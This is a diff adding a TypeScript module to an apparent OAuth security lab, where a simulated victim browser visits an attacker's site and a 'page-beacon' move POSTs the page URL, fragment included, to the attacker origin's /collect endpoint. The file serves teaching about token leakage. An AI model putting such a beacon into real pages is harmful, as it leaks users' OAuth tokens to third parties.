@@ -1,0 +1,41 @@
+import type { HttpRequest } from '@/lib/oauth/http'
+import { fetchRequest, openPage } from '@/lib/user-agent/browser'
+import { linkTarget } from '@/lib/user-agent/links'
+import { labTime } from '../clock'
+import { LabRefusal } from '../refusal'
+import { browserMove } from './browser'
+import type { Move, MoveContext } from './move'
+
+/** What Alice's browser does on pages that are Mallory's, or that Mallory's script got into. */
+export const LURED_MOVES: Readonly<Record<string, Move>> = {
+  /** Alice opens a page of Mallory's site, as from a link in a mail: `path` below its base. */
+  'visit-attacker': browserMove((state, { lab, host, input }) => {
+    const path = String(input.path ?? '/')
+    if (!/^\/[\w./-]*$/.test(path)) throw new Error('path is a plain path on the attacker’s site, such as /prize.')
+    return openPage(state, lab.origins.attacker + path, { now: labTime(lab, host), typed: true })
+  }),
+  /** Alice presses the link with this id on the page she sees, or the page's script does. */
+  'follow-link': browserMove((state, { lab, host, input }) =>
+    openPage(state, linkTarget(state, String(input.link)), { now: labTime(lab, host) }),
+  ),
+  /** The script of Mallory's page tells its server the address it stands at, fragment included. */
+  'page-beacon': collected((context) => context.lab.browser.page?.url ?? ''),
+}
+
+/** A script of the open page sends text to Mallory's site, without asking for an answer it could read. */
+export function collected(read: (context: MoveContext) => string): Move {
+  return {
+    from: 'browser',
+    async prepare(context): Promise<HttpRequest> {
+      const { lab } = context
+      if (!lab.browser.page) throw new LabRefusal(409, 'The browser shows no page whose script could send anything.')
+      return fetchRequest(lab.browser, {
+        method: 'POST',
+        url: `${lab.origins.attacker}/collect`,
+        headers: [['content-type', 'text/plain;charset=UTF-8']],
+        body: read(context),
+      })
+    },
+    settle: async (_context, _request, response) => (response.status >= 400 ? 'refusal' : 'confirmation'),
+  }
+}
